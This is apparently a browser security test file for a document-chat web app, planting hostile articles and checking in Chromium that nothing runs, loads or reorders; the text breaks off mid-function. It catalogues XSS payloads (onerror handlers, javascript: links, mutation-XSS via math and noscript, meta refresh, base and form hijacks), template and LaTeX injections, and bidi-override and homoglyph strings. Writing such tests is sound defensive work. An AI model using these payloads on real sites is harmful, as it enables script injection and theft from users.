"""Hostile articles in a real browser: what is measured is what Chromium runs, asks for, builds and sets in place.

The main pass sets the page's Content-Security-Policy aside (`bypass_csp`), so that it cannot hide a hole in the
escaping. What Chromium does with the same attacks where they are markup is measured too: it must notice them.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest
from markdown_it import MarkdownIt

from tests.browsing import ask, ready, served, tab

# --- the attacks ------------------------------------------------------------------------------------------------------

# In an attack NN is its number, TRAP the address of a host that is not the page's, and ¶ a line break.
# "tripwire(NN)" must never run, "/tripwire-NN" never be asked for.

MARKUP = {
    "img-onerror": "<img src=/tripwire-NN onerror=tripwire(NN)>",
    "img-remote": "<img src=TRAP/tripwire-NN.png><picture><source srcset=/tripwire-NN><img alt=''></picture>",
    "script": "<script>tripwire(NN)</script><script src=TRAP/tripwire-NN.js></script>",
    "svg-events": "<svg onload=tripwire(NN)><animate onbegin=tripwire(NN) attributeName=x /><image href=/tripwire-NN>",
    "link-script": '<a href="javascript:tripwire(NN)">the minutes</a>',
    "link-data": '<a href="data:text/html,<script>opener.tripwire(NN)</script>" target=_blank>the minutes</a>',
    "link-entities": '<a href="&#106;ava&Tab;script&colon;tripwire(NN)" ping="TRAP/tripwire-NN">the minutes</a>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.tripwire(NN)</script>"></iframe>',
    "iframe-script": "<iframe src=javascript:parent.tripwire(NN)></iframe><iframe src=TRAP/tripwire-NN></iframe>",
    "details-ontoggle": "<details open ontoggle=tripwire(NN)>more</details><marquee onstart=tripwire(NN)>new</marquee>",
    "math-mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/tripwire-NN '
    'onerror=tripwire(NN)&gt;">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=/tripwire-NN onerror=tripwire(NN)>"></noscript>',
    "closers": "</textarea></script></title></style></template></bdi></p></article><img src=x onerror=tripwire(NN)>",
    "attributes": "'\" onmouseover='tripwire(NN)' autofocus onfocus=\"tripwire(NN)\" x='><svg onload=tripwire(NN)>",
    "form": "<form action=TRAP/tripwire-NN><input name=password><button formaction=javascript:tripwire(NN)>Go</form>",
    "input-autofocus": "<input autofocus onfocus=tripwire(NN)><select autofocus onfocus=tripwire(NN)></select>",
    "overlay": "<div style='position:fixed;inset:0;background:url(TRAP/tripwire-NN)'></div><dialog open>Go</dialog>",
    "style": "<style>@import url(TRAP/tripwire-NN.css);*{position:fixed!important}</style>",
    "link-stylesheet": "<link rel=stylesheet href=TRAP/tripwire-NN.css><link rel=preload as=image href=/tripwire-NN>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=TRAP/tripwire-NN">',
    "base": "<base href=TRAP/tripwire-NN/ target=_blank><img src=cat.png>",
    "object": "<object data=TRAP/tripwire-NN.html></object><embed src=/tripwire-NN>",
    "media": "<video autoplay src=TRAP/tripwire-NN.mp4 poster=/tripwire-NN></video><audio src=x onerror=tripwire(NN)>",
    "comment-open": "<!-- --!><img src=/tripwire-NN onerror=tripwire(NN)><!-- the rest is gone",
    "tag-open": "<img src=/tripwire-NN onerror=tripwire(NN) title='the rest is gone",
    "null-bytes": "<img src=/tripwire-NN\0 onerror=tripwire(NN)><scr\0ipt>tripwire(NN)</scr\0ipt>",
}
"""Attacks that are markup as they stand."""

MARKDOWN = {
    "md-image": "![the map](TRAP/tripwire-NN.png) ![](/tripwire-NN)",
    "md-link": "[the map](/tripwire-NN) and <TRAP/tripwire-NN>",
    "md-reference": "![the map][map] and [the rest][rest]¶¶[map]: /tripwire-NN¶[rest]: TRAP/tripwire-NN",
    "md-name": "[the map](/tripwire-NN)",
    "md-block": "so¶¶<div onclick=tripwire(NN)>¶¶**bold** <img src=/tripwire-NN onerror=tripwire(NN)>¶¶# a heading",
}
"""Attacks that Markdown makes markup."""

TEXT = {
    "entities": "&lt;img src=/tripwire-NN onerror=tripwire(NN)&gt; &#x3C;script&#x3E;tripwire(NN)&#x3C;/script&#x3E; "
    "www.tripwire-NN.example TRAP/tripwire-NN",
    "templates": "{{constructor.constructor('tripwire(NN)')()}} ${tripwire(NN)} #{tripwire(NN)} <%= tripwire(NN) %> "
    "{@html value} {value} ${value} {{value}} `${tripwire(NN)}`",
    "latex": r"$$\href{javascript:tripwire(NN)}{x}$$ \(\includegraphics{TRAP/tripwire-NN}\) "
    r"\begin{equation}\url{/tripwire-NN}\htmlData{a=b}{x}\end{equation}",
    "mermaid": "so¶¶```mermaid¶graph TD¶A[<img src=/tripwire-NN onerror=tripwire(NN)>]¶"
    'click A "javascript:tripwire(NN)"¶```',
    "own-look": '<button class="cite at-0-9-0123456789abcdef-61">tripwire-NN</button><mark class=focus>here</mark>',
    "homoglyphs": "\uff1cscript\uff1etripwire(NN)\uff1c/script\uff1e <\u0455cript>tripwire(NN)</\u0455cript> "
    "<scr\u200bipt>tripwire(NN)</scr\u200bipt> <\u00adimg src=/tripwire-NN>",
    "long-token": "tripwire(NN)" + "x" * 1200,
}
"""Attacks that are none until somebody expands, decodes or renders text that is already shown."""

BIDI = {
    "rlo": "\u202e tripwire-NN",
    "rli": "\u05d0\u05d1\u05d2 \u2066\u2067\u2068tripwire-NN",
    "pdi-rlo": "\u2069\u202etripwire-NN",
    "pdi-rle-rli": "\u2069\u2069\u202b\u05d0 \u2067\u2069\u2069\u202etripwire-NN",
    "separator-rlo": "x\u2029\u202etripwire-NN",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd tripwire-NN \u05e9\u05dc\u05d5\u05dd",
}
"""Attacks on the order of what stands beside them."""

SUBJECTS = """\
Orla Quist breeds moths § that glow in the bell tower of Sandholm|What does Orla Quist breed?
Bram Teller carves whistles § out of old piano keys in Ostwick|What does Bram Teller carve?
Ida Fennimore keeps a museum § of broken umbrellas in Lunden|What does Ida Fennimore keep?
Pavel Orsk paints lighthouses § on the shells of snails in Brack|What does Pavel Orsk paint?
Greta Holloway brews lemonade § from pine needles at the mill of Tarn|What does Greta Holloway brew?
Tomas Wilder repairs accordions § in a railway carriage near Elmsee|What does Tomas Wilder repair?
Nell Sorrow collects doorbells § of houses that were pulled down in Vik|What does Nell Sorrow collect?
Oskar Brandt teaches geese § to march along the harbour of Rook|What does Oskar Brandt teach?
Lina Marsh weaves hammocks § from discarded parachutes in Pell|What does Lina Marsh weave?
Hugo Farrow grows pumpkins § on the roof of the cinema of Ditton|What does Hugo Farrow grow?
Wanda Krill tunes bicycles § for the couriers of the island of Sark|What does Wanda Krill tune?
Anders Loft builds kites § with the sails of wrecked ships in Noll|What does Anders Loft build?
Mabel Stroud records echoes § under the seven bridges of Kerrow|What does Mabel Stroud record?
Jonas Pike restores carousels § in a salt cellar below Hallin|What does Jonas Pike restore?
Elsa Thorne bakes biscuits § in the shape of the county of Mere|What does Elsa Thorne bake?
Felix Dunmore studies puddles § on the runway of the airfield of Gorse|What does Felix Dunmore study?
Rosa Kettle prints banknotes § for the toy market of Lower Ham|What does Rosa Kettle print?
Viktor Sedge trains ferrets § to pull cables through the castle of Aldry|What does Viktor Sedge train?
Clara Wick sews curtains § for the windows of trams in Bellmar|What does Clara Wick sew?
Emil Harrow measures shadows § of the poplars along the Wend canal|What does Emil Harrow measure?
Tilda Crane moulds candles § from the honeycombs of Ravensey|What does Tilda Crane mould?
Otto Pellew translates menus § for the night train to Corran|What does Otto Pellew translate?
Hanna Briar rescues hedgehogs § from the motorway at Stone Cross|What does Hanna Briar rescue?
Lars Mundy catalogues buttons § of uniforms in the archive of Fenn|What does Lars Mundy catalogue?
Petra Vane smokes herrings § in a telephone box in Skelling|What does Petra Vane smoke?
Casper Reed forges anchors § for the model boats of Lake Umber|What does Casper Reed forge?
Dora Linnet plants orchards § on the slag heaps of Colby|What does Dora Linnet plant?
Simon Garth polishes meteorites § in the old dairy of Throwle|What does Simon Garth polish?
Freya Mott engraves spoons § with the tide tables of Inchmore|What does Freya Mott engrave?
Ivan Culver designs labyrinths § of box hedges for the park of Ormond|What does Ivan Culver design?
Alma Roscoe dyes ribbons § with the rust of the bridge at Yarrow|What does Alma Roscoe dye?
Karl Winter raises snails § in the wine vault of Sankt Velten|What does Karl Winter raise?
Peggy Alder maps staircases § of the upper town of Morrow|What does Peggy Alder map?
Magnus Tull sharpens skates § beside the frozen weir of Oland|What does Magnus Tull sharpen?
Bertha Coyle folds lanterns § for the procession of Saint Ebba|What does Bertha Coyle fold?
Leo Hadley salvages pianos § from the flooded hotels of Zell|What does Leo Hadley salvage?
Sofie Grange rears peacocks § behind the brewery of Maddern|What does Sofie Grange rear?
Ralph Ember programs fountains § on the market square of Hythe|What does Ralph Ember program?
Ulla Nesbit knits covers § for the cannons of Fort Greywell|What does Ulla Nesbit knit?
Edgar Shaw photographs chimneys § of every bakery in Tolver|What does Edgar Shaw photograph?
Marta Quill invents alphabets § for the deaf school of Arden|What does Marta Quill invent?
Noel Beck rents donkeys § to the painters of the Corvey hills|What does Noel Beck rent?
Hilda Frost stuffs pillows § with the down of the cliffs of Runa|What does Hilda Frost stuff?
Abel Morland casts bells § for the sheep of the Tessin meadows|What does Abel Morland cast?
"""
"""Who does what (§ stands where the attack goes), and the question that finds it. All of it is invented."""

NAMES = {
    "img-onerror": "<img src=tripwire-NN onerror=tripwire(NN)>",
    "svg-events": '"><svg onload=tripwire(NN)>',
    "attributes": "' onfocus='tripwire(NN)' tabindex='1",
    "link-script": "javascript:tripwire(NN)",
    "md-name": "a¶¶![map](tripwire-NN)¶¶<svg onload=tripwire(NN)>",
    "md-link": "[map](javascript:tripwire(NN))",
    "templates": "{{value}} ${tripwire(NN)} {value}",
    "latex": "$$\\href{javascript:tripwire(NN)}{x}$$",
    "homoglyphs": "\u0430b\u200b\uff1cscript\uff1e",
    "own-look": "<button class=cite>1",
    "long-token": "x" * 200,
} | BIDI
"""What the names of some files have before their suffix, where the system allows it."""

COMMENTED = {"md-image", "md-name", "rli", "pdi-rlo", "separator-rlo"}
"""Attacks that are asked about once more, so that a reader's comment answers, with its writer's name."""


@dataclass(frozen=True, slots=True)
class Article:
    """A hostile article: the attack's name, whom it is about, the attack, its file, its text, the question to it."""

    name: str
    fact: str
    attack: str
    source: str
    text: str
    question: str


INOFFENSIVE = Article(
    "inoffensive",
    "Ingrid Vale",
    "sunflowers",
    "00-inoffensive.md",
    """---
title: "Ingrid Vale and the neighbours"
author: "Ann Oster"
url: "http://vale.example/"
date: 2021-04-01
---

Ingrid Vale waters sunflowers at the station of Pemm. The neighbours came to look in May and stayed for tea.

1 comment

1. Bo
I met Ingrid Vale at the market and spoke about it.
""",
    "What does Ingrid Vale water?",
)
UNREADABLE = replace(INOFFENSIVE, source="99-<img src=tripwire-0 onerror=tripwire(0)> \u202e.md", text="\udcff")
"""A file that is not UTF-8, and whose name stands in the sentence that says so."""


def articles(trap: str) -> list[Article]:
    """An article for every attack, each about a subject of its own."""
    attacks = MARKUP | MARKDOWN | TEXT | BIDI
    rows = [line.split("|") for line in SUBJECTS.splitlines()]
    assert len(rows) >= len(attacks)
    numbered = enumerate(zip(attacks.items(), rows, strict=False), 1)
    return [_article(n, name, attack, trap, *row) for n, ((name, attack), row) in numbered]


def _article(number: int, name: str, attack: str, trap: str, said: str, question: str) -> Article:
    payload = spelled(attack, number, trap)
    line = " ".join(payload.split())
    who = " ".join(said.split()[:2])
    title = "" if name == "md-name" else f"{who} and {line} the neighbours"
    block = f"\n{payload}\n" if "\n" in payload else ""
    signed = payload if name in BIDI else f"\r\r![map](tripwire-{number})"
    text = f"""---
title: {json.dumps(title)}
author: {json.dumps(f"Ann {line}")}
url: {json.dumps("http://" + re.sub("[/?#:@]", "", line))}
date: 2021-05-{number % 28 + 1:02}
---

{said.replace("§", line)}. The neighbours came to look in May and stayed for tea.
{block}
1 comment

1. Bo {signed}
I met {who} at the market {line} and spoke about it.
"""
    stem = spelled(NAMES.get(name, ""), number, trap).replace("/", "-")
    return Article(name, who, payload, f"{number:02}-{name} {stem}".strip() + ".md", text, question)


def spelled(attack: str, number: int, trap: str) -> str:
    """An attack with its number and the trap's address."""
    return attack.replace("NN", str(number)).replace("TRAP", trap).replace("¶", "\n")


def write(corpus: Path, article: Article) -> Article:
    """Write an article, under a plain name where the system takes no other; returns it as it is named."""
    try:
        (corpus / article.source).write_bytes(article.text.encode(errors="surrogateescape"))
    except OSError:
        plain = f"{article.source.split(' ')[0]}.md"
        (corpus / plain).write_bytes(article.text.encode(errors="surrogateescape"))
        return replace(article, source=plain)
    return article


# --- what the browser tells -------------------------------------------------------------------------------------------

TITLE = "Verbatim"
OURS = "#chat .asked, #chat .answer, #chat .refusal, article, #shelf table, ul.chips, #history ul, #peek"
"""Where the page shows articles and questions; nothing of Gradio's stands in there."""

TAGS = "p b bdi span button ul li details summary table caption thead tbody tr th td mark h2 header div article small"
ATTRIBUTES = "class role tabindex scope open data-mark data-label data-source data-references data-field data-value"
"""What we build there."""

OTHERS = (
    "form, iframe, frame, object, embed, script, style, link, base, meta, img, picture, svg, math, video, audio, "
    "source, canvas, input, textarea, select, dialog, template, noscript, marquee, a, area, [popover]"
)
"""What no article may bring about. Gradio has some of it; an inoffensive article shows which."""

LOOK = """([ours, tags, attributes, others]) => {
  const named = (e, names) => `${e.localName}[${names.sort()}]`;
  const wrong = [];
  for (const e of document.querySelectorAll(`:is(${ours}):not(#peek), :is(${ours}) *`)) {
    const odd = e.getAttributeNames().filter((name) => !name.startsWith("aria-") && !attributes.includes(name));
    if (odd.length || !tags.includes(e.localName)) wrong.push(`${named(e, odd)} where articles are shown`);
    if (e.localName === "a" || e.form) e.click();
  }
  const sign = (e) => e.matches("bdi > bdi, bdi > b > bdi") && /^[\u2066-\u2069]$/.test(e.textContent);
  const few = (e) => e.matches(".answer p > bdi > b:not([class])");
  const part = (e) => e.matches(".text :is(span.part, span.sign, b.heading, mark[data-mark])");
  for (const e of document.querySelectorAll("bdi *, .asked *, #peek mark *, #history .about button *, .text *"))
    if (!sign(e) && !few(e) && !part(e)) wrong.push(`${named(e, e.getAttributeNames())} inside a text`);
  if (document.documentElement.scrollWidth > window.innerWidth) wrong.push("a page wider than its window");

  const passing = /^aria-|^(class|style|disabled|hidden|checked)$/;
  const built = [...document.querySelectorAll(others)].map((e) => {
    const names = e.getAttributeNames().filter((name) => !passing.test(name));
    return `${named(e, names)} ${e.getAttribute("src") ?? e.getAttribute("href") ?? ""}`;
  });
  const placed = [...document.body.querySelectorAll("*")].flatMap((e) => {
    const { position } = getComputedStyle(e);
    if (!e.checkVisibility()) return []; // Gradio's clocks, which page.css hides, change their classes at any time.
    return /fixed|absolute|sticky/.test(position) ? [`${position} ${e.localName} ${e.getAttribute("class")}`] : [];
  });
  return { wrong, seen: [...new Set([...built, ...placed])] };
}"""
"""What stands where articles are shown and is not ours, and, in the whole page, `OTHERS` and what is set over the rest.
Links and forms that an article brought about are clicked."""

LOOK_EXPORTED = """() => {
  const ours = "html[lang], head, meta[charset], meta[http-equiv=Content-Security-Policy], title, style, body, h1, " +
    "section, h2, p, blockquote, bdi, sup, a[href^='#'], hr, ol, li[id]";
  const odd = (e) => !e.matches(ours) || e.getAttributeNames().length > 2 || getComputedStyle(e).position !== "static";
  const wrong = [...document.querySelectorAll("*")].filter(odd).map((e) => e.outerHTML.slice(0, 200));
  if (document.querySelectorAll("title, style, meta, h1").length !== 5) wrong.push("a second head");
  if (document.documentElement.scrollWidth > window.innerWidth) wrong.push("a page wider than its window");
  return wrong;
}"""

ORDER = """(boxes) => {
  const rects = (range) => [...range.getClientRects()].filter((r) => r.width > 0);
  const pieces = (node) => {
    const range = document.createRange();
    if (node.parentElement.matches("[role=option], .token span"))
      return [...(node.data ?? "").matchAll(/ · |(?:(?! · ).)+/gsu)].map(({ 0: part, index }) => {
        range.setStart(node, index);
        range.setEnd(node, index + part.length);
        return [part, rects(range)];
      });
    if (node.nodeType === Node.TEXT_NODE)
      return [...node.data.matchAll(/\\S/gu)].map(({ 0: sign, index }) => {
        range.setStart(node, index);
        range.setEnd(node, index + sign.length);
        return [sign, rects(range)];
      });
    if (node.nodeType !== Node.ELEMENT_NODE || node.matches(".unseen")) return [];
    range.selectNodeContents(node);
    return node.localName === "bdi" ? [[node.textContent, rects(range)]] : [...node.childNodes].flatMap(pieces);
  };
  const follows = (one, two) => {
    const low = one.reduce((a, b) => (b.bottom > a.bottom ? b : a));
    const high = two.reduce((a, b) => (b.top < a.top ? b : a));
    const centre = (high.top + high.bottom) / 2;
    if (centre > low.bottom) return true; // on the next line
    const last = one.filter((r) => r.bottom > low.top + 2), first = two.filter((r) => r.top < high.bottom - 2);
    return centre > low.top && Math.min(...first.map((r) => r.left)) >= Math.max(...last.map((r) => r.right)) - 2;
  };
  return [...document.querySelectorAll(boxes)].flatMap((box) => {
    const found = pieces(box).filter(([, places]) => places.length);
    const at = found.findIndex(([, places], n) => n && !follows(found[n - 1][1], places));
    return at < 0 ? [] : [`'${found[at][0]}' before '${found[at - 1][0]}' in: ${box.textContent.slice(0, 160)}`];
  });
}"""
"""Where a character outside an isolate, or an isolate as a whole, does not stand after what is written before it."""

LINES = (
    "#chat :is(.answer, .refusal) p, #chat .places li, article h2, article .facts, #peek small, #chips button, "
    "#shelf :is(th, td, .reason, .copies), #told p, #problem p, .verbatim-dialog p"
)
"""Where text of an article stands beside other text."""


@dataclass
class Watch:
    """What the browser did that no article may make it do, each with what was being looked at."""

    address: str
    ran: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)
    built: list[str] = field(default_factory=list)
    turned: list[str] = field(default_factory=list)
    usual: set[str] = field(default_factory=set)
    """What is there with an inoffensive article."""
    learning: bool = True
    at: str = "the start"

    def watch(self, context: Any) -> None:
        """Note what happens in any page of a context."""
        context.expose_function("tripwire", lambda said: self.ran.append(f"{self.at}: {said}"))
        context.on("request", lambda sent: self._requested(sent.url))
        context.on("dialog", lambda dialog: self._dialog(dialog))
        context.on("page", lambda page: page.on("popup", lambda other: self.opened.append(f"{self.at}: {other.url}")))

    def _requested(self, url: str) -> None:
        own = url.startswith((self.address, "data:", f"blob:{self.address}", "file:"))
        if not own or "tripwire" in urlsplit(url).path:
            self.requests.append(f"{self.at}: {url[:200]}")

    def _dialog(self, dialog: Any) -> None:
        self.opened.append(f"{self.at}: {dialog.message}")
        dialog.dismiss()

    def look(self, page: Any, at: str, lines: str = LINES) -> None:
        """Measure what is on the page now."""
        self.at = at
        found = page.evaluate(LOOK, [OURS, TAGS.split(), ATTRIBUTES.split(), OTHERS])
        if self.learning:
            self.usual.update(found["seen"])
        self.built += [f"{at}: {what}" for what in [*found["wrong"], *(set(found["seen"]) - self.usual)]]
        self.turned += [f"{at}: {what}" for what in page.evaluate(ORDER, lines)]
        if (page.title(), urlsplit(page.url).path, len(page.frames)) != (TITLE, "/", 1):
            self.opened.append(f"{at}: {page.title()} {[frame.url for frame in page.frames]}")

    def look_exported(self, page: Any, at: str) -> None:
        """Measure a page that stands alone in a file."""
        self.at = at
        self.built += [f"{at}: {what}" for what in page.evaluate(LOOK_EXPORTED)]
        self.turned += [f"{at}: {what}" for what in page.evaluate(ORDER, "blockquote, li")]


class Trap(ThreadingHTTPServer):
    """Another host, which notes everybody who so much as connects to it."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.visits: list[str] = []
        self.address = f"http://localhost:{self.server_port}"

    def get_request(self) -> Any:
        """Note a connection."""
        found = super().get_request()
        self.visits.append(str(found[1]))
        return found


class _Answer(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"tripwire('from another host')")

    do_POST = do_GET  # noqa: N815

    def log_message(self, *said: Any) -> None:
        pass


@contextmanager
def trapping() -> Iterator[Trap]:
    trap = Trap()
    threading.Thread(target=trap.serve_forever, daemon=True).start()
    try:
        yield trap
    finally:
        trap.shutdown()
        trap.server_close()


# --- what a person does -----------------------------------------------------------------------------------------------


SETTLED = "new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
"""Two frames, after which what was scrolled has told so."""


def converse(page: Any, watch: Watch, group: Sequence[Article]) -> None:
    """A conversation of its own that is named by an attack, and a question to every article of the group."""
    page.click("#new")
    page.wait_for_function("!document.querySelector('#chat .asked')")
    ask(page, f"{group[0].question} {' '.join(group[0].attack.split())}")
    for article in group:
        ask(page, article.question)
        first = consult(page, watch, article.name)
        assert article.source.encode().hex() in first, f"{article.name} does not answer its own question"
        shown = page.text_content("#source .text")
        assert article.attack.replace("\0", "") in shown, f"{article.name} is not shown as it stands"
        if article.name in COMMENTED:
            ask(page, f"Who met {article.fact} at the market?")
            consult(page, watch, f"{article.name} (comment)")


def consult(page: Any, watch: Watch, at: str) -> str:
    """Look at the last answer with everything unfolded, hover its first citation, open it; returns its classes."""
    page.evaluate("document.querySelectorAll('#chat details').forEach((one) => (one.open = true))")
    watch.look(page, at)
    cite = page.locator("#chat :is(.answer, .refusal) >> nth=-1 >> .cite").first
    page.mouse.move(0, 0)
    cite.scroll_into_view_if_needed()
    page.evaluate(SETTLED)  # Scrolling hides the tooltip.
    cite.hover()
    page.wait_for_selector("#peek:not([hidden])")
    watch.look(page, f"{at}, the tooltip", "#peek small")
    cite.click()
    page.wait_for_function("document.activeElement.matches('#source h2')")
    watch.look(page, f"{at}, beside", "#source :is(h2, .facts)")
    return str(cite.get_attribute("class"))


def filter_by(page: Any, watch: Watch, articles: Sequence[Article]) -> None:
    """See what the filters offer, choose outlets, then articles, ask one under them, and drop every chip."""
    page.click("#new")
    if not page.is_visible("#documents input"):
        page.click("#filters button >> nth=0")
    choose(page, watch, "#outlets", range(2))
    drop_chips(page)
    page.click("#documents input")
    options = page.locator("#documents [role=option]").all_text_contents()
    page.keyboard.press("Tab")
    wanted = [article.source.split(" ")[0] for article in articles]
    choose(page, watch, "#documents", [n for n, text in enumerate(options) if any(name in text for name in wanted)])
    ask(page, articles[-1].question)
    watch.look(page, "an answer under filters")
    drop_chips(page)


def choose(page: Any, watch: Watch, part: str, wanted: Iterable[int]) -> None:
    page.click(f"{part} input")
    page.wait_for_selector(f"{part} [role=option]")
    watch.look(page, f"the choices of {part}", f"{part} [role=option]")
    offered = page.locator(f"{part} [role=option]").count()
    chosen = [n for n in wanted if n < offered]
    for n in chosen:
        page.click(f"{part} [role=option] >> nth={n}")
    page.keyboard.press("Tab")
    page.wait_for_function("n => document.querySelectorAll('#chips button').length === n", arg=len(chosen))
    watch.look(page, f"the chips of {part}", f"{part} .token span, #chips button")


def drop_chips(page: Any) -> None:
    for left in reversed(range(page.locator("#chips button").count())):
        page.click("#chips button >> nth=0")
        page.wait_for_function("n => document.querySelectorAll('#chips button').length === n", arg=left)


def browse(page: Any, watch: Watch, articles: Sequence[Article]) -> None:
    """See the articles in the library's table, search them, open each, ask to remove some."""
    tab(page, 1)
    page.wait_for_function("n => document.querySelectorAll('#shelf .open').length > n", arg=len(articles) - 1)
    watch.look(page, "the table")
    page.fill("#sought :is(input, textarea)", f"{articles[0].fact} current")
    page.wait_for_function("document.querySelectorAll('#shelf tbody tr').length === 1")
    watch.look(page, "the table, searched")
    page.fill("#sought :is(input, textarea)", "")
    page.wait_for_function("n => document.querySelectorAll('#shelf .open').length > n", arg=len(articles) - 1)
    names = page.locator("#shelf .open").evaluate_all("(all) => all.map((one) => one.dataset.source)")
    for article in articles:
        page.locator("#shelf .open").nth(names.index(article.source)).click()
        page.wait_for_function(
            "s => document.querySelector('#reader .text')?.textContent.includes(s)", arg=article.fact
        )
        watch.look(page, f"{article.name}, the reader", "#reader :is(h2, .facts)")
    for article in articles:
        if article.name in NAMES or len(articles) == 1:
            page.locator("#shelf .remove").nth(names.index(article.source)).click()
            page.wait_for_selector("dialog")
            watch.look(page, f"{article.name}, the question whether to remove it", "dialog p")
            page.click("dialog button:has-text('Cancel')")


def look_back(page: Any, watch: Watch, folder: Path) -> None:
    """See the conversations, ask to delete and to rename one, save each as HTML and open that, then open one again."""
    tab(page, 2)
    page.wait_for_selector("#history li")
    watch.look(page, "the history")
    for act in ("Delete", "Rename"):
        page.click(f"#history .acts button:has-text('{act}')")
        page.wait_for_selector("dialog")
        watch.look(page, f"the question whether to {act}")
        page.click("dialog button:has-text('Cancel')")
    exported = page.context.new_page()
    for n in range(page.locator("#history li").count()):
        with page.expect_download() as download:
            page.locator("#history li").nth(n).locator(".acts button:has-text('HTML')").click()
        assert re.fullmatch(r"[\w-]{1,60}\.html", download.value.suggested_filename, re.ASCII)
        download.value.save_as(folder / "saved.html")
        exported.goto((folder / "saved.html").as_uri())
        watch.look_exported(exported, f"the exported conversation {n + 1}")
    exported.close()
    page.click("#history .about button >> nth=0")
    page.wait_for_selector("#chat :is(.answer, .refusal)")
    page.wait_for_selector("#history", state="hidden")
    watch.look(page, "a conversation opened again")
    page.click("#chat button[aria-label*='islike' i] >> nth=0")
    page.wait_for_selector("#save-case")
    watch.look(page, "a thumbs-down")
    page.click("#feedback button:has-text('Cancel')")


def tour(page: Any, watch: Watch, articles: Sequence[Article], folder: Path) -> None:
    """Everything that a person does with articles."""
    page.check("#comments input")
    for first in range(0, len(articles), GROUP):
        converse(page, watch, articles[first : first + GROUP])
    filter_by(page, watch, [a for a in articles if a.name in FILTERED or len(articles) == 1])
    browse(page, watch, articles)
    look_back(page, watch, folder)


GROUP = 10
"""Articles that are asked in one conversation."""

FILTERED = {"img-onerror", "md-name", "templates", "rlo", "rli", "pdi-rlo"}
"""Attacks whose articles are chosen as filters."""


def rebuild(page: Any, watch: Watch) -> None:
    """Index what is new from the page, with a file that cannot be read."""
    page.goto(watch.address)
    ready(page)
    tab(page, 1)
    page.wait_for_selector("#status:has-text('added')")
    watch.look(page, "the table before the rebuild")
    page.click("#rebuild")
    page.wait_for_selector("#told:has-text('not UTF-8')", timeout=240_000)
    watch.look(page, "the table after the rebuild")
    page.goto(watch.address)
    ready(page)
    page.click("#new")
    page.wait_for_selector("#chat .example")
    watch.look(page, "the examples")


def remove(page: Any, watch: Watch, article: Article) -> None:
    """Take an article out of the folder; it goes on answering until the next rebuild."""
    tab(page, 1)
    page.fill("#sought :is(input, textarea)", article.fact)
    page.wait_for_function("document.querySelectorAll('#shelf tbody tr').length === 1")
    page.click("#shelf .remove")
    page.click("dialog button:has-text('Remove')")
    page.wait_for_selector("dialog", state="detached")
    page.wait_for_selector("#told p:has-text('.removed/')")
    watch.look(page, "a removal")


def follow_links(page: Any, watch: Watch, articles: Sequence[Article]) -> None:
    """Open links that ask an attack, of an article that is called by one, or of an outlet that does not exist."""
    for n, article in enumerate(articles):
        line = " ".join(article.attack.split())
        more = {"outlet": line} if n % 2 else {"document": article.source}
        page.goto(f"{watch.address}?{urlencode({'q': line, 'comments': '1', **more})}")
        page.wait_for_selector("#chat :is(.answer, .refusal), #problem .problem")
        ready(page)
        watch.look(page, f"{article.name}, a link with {more}")


# --- the promise ------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def watched(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Watch:
    """What the browser did with an inoffensive article, and then with all the hostile ones."""
    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "corpus"
    corpus.mkdir()
    write(corpus, INOFFENSIVE)
    with trapping() as trap, served(folder) as address:
        watch = Watch(address)
        context = browser.new_context(viewport={"width": 1280, "height": 860}, locale="en-GB", bypass_csp=True)
        watch.watch(context)
        page = context.new_page()
        page.goto(address)
        ready(page)
        tour(page, watch, [INOFFENSIVE], folder)
        watch.learning = False
        hostile = [write(corpus, article) for article in articles(trap.address)]
        write(corpus, UNREADABLE)
        rebuild(page, watch)
        tour(page, watch, hostile, folder)
        remove(page, watch, next(article for article in hostile if article.name == "pdi-rlo"))
        follow_links(page, watch, [article for article in hostile if article.name in FILTERED])
        context.close()
        watch.requests += [f"a connection to another host, from port {port}" for port in trap.visits]
        return watch


def test_there_are_enough_each_about_a_subject_of_its_own() -> None:
    made = articles("http://localhost")
    assert len(made) >= 30
    assert len({article.fact for article in made}) == len({article.source for article in made}) == len(made)


@pytest.mark.slow
@pytest.mark.browser
class TestHostileArticles:
    def test_none_runs_a_script_opens_a_window_or_leads_away(self, watched: Watch) -> None:
        assert watched.ran == []
        assert watched.opened == []

    def test_none_makes_a_request(self, watched: Watch) -> None:
        assert watched.requests == []

    def test_none_builds_or_covers_anything(self, watched: Watch) -> None:
        assert watched.built == []

    def test_none_turns_around_what_stands_beside_it(self, watched: Watch) -> None:
        assert watched.turned == []

    def test_each_is_noticed_where_it_is_markup(self, browser: Any) -> None:
        """Else the tests above would hold for a browser that is blind."""
        with trapping() as trap:
            watch = Watch("http://127.0.0.1:9/", learning=False)
            context = browser.new_context(bypass_csp=True)
            watch.watch(context)
            page = context.new_page()
            missed = [name for name in MARKUP | MARKDOWN if not noticed(page, watch, trap, name)]
            context.close()
        assert missed == []


BUILT_ONLY = {"link-data", "math-mutation"}
"""Attacks that no script or request gives away, in a browser as new as this one; what they build does."""


def noticed(page: Any, watch: Watch, trap: Trap, name: str) -> bool:
    """Whether the measures tell of an attack that stands in a page as markup, alone in it."""
    attack = spelled((MARKUP | MARKDOWN)[name], 1, trap.address)
    shown = MarkdownIt("commonmark", {"html": True}).render(attack) if name in MARKDOWN else attack
    body = f"<!doctype html><title>{TITLE}</title><div class=text><article>{shown}</article></div><p title='' id=''>"
    page.unroute_all()
    page.route(
        f"{watch.address}**",
        lambda route: (
